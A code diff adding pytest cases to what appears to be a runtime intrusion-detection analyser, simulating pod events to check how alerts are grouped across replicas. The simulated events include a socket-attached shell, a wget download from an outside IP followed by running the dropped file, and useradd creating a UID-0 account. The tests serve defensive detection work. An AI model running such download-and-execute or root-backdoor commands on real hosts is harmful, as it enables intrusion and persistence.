@@ -90,3 +90,25 @@ def test_what_a_replica_does_half_a_minute_after_a_campaign_is_its_own(cluster: 
     cluster.exec(235.5, pods[1], "/usr/sbin/useradd", args=("useradd", "-o", "-u", "0", "x"))
 
     assert named(analyse(cluster, until=600)) == [["cart-r1-0", "cart-r1-1", "cart-r1-2"], ["cart-r1-1"]]
+
+
+@pytest.mark.parametrize("later", [40, 200])
+def test_what_one_replica_does_under_a_shell_that_all_were_told_of_is_its_own(cluster: Cluster, later: float) -> None:
+    pods = cluster.pods(3)
+    cluster.normal(pods, 0, 900)
+    for number, pod in enumerate(pods):  # a new way of serving, without a rollout: rightly an alert about all
+        for at in (400.5, 403.5, 409.5, 400.5 + later):
+            shell = cluster.exec(at + number / 10, pod, DASH, flags=(ProcessFlag.STDIO_SOCKET,))
+    cluster.exec(400.75 + later, pods[2], "/usr/bin/wget", parent=DASH, args=("wget", "http://203.0.113.9/x"), parent_pid=shell)
+    cluster.exec(400.85 + later, pods[2], "/opt/x", parent=DASH, flags=DROPPED, parent_pid=shell)
+
+    assert named(analyse(cluster, until=1000)) == [[pod.name for pod in pods], ["cart-r1-2"]]
+
+
+def test_what_is_done_in_a_shell_that_a_campaign_opened_belongs_to_it_for_long(cluster: Cluster) -> None:
+    pods = cluster.pods(3)
+    cluster.normal(pods, 0, 900)
+    shells = [cluster.exec(400.5 + number, pod, DASH, flags=(ProcessFlag.STDIO_SOCKET,)) for number, pod in enumerate(pods)]
+    cluster.exec(520.5, pods[1], "/usr/sbin/useradd", parent=DASH, args=("useradd", "x"), parent_pid=shells[1])
+
+    assert named(analyse(cluster, until=1000)) == [[pod.name for pod in pods]]
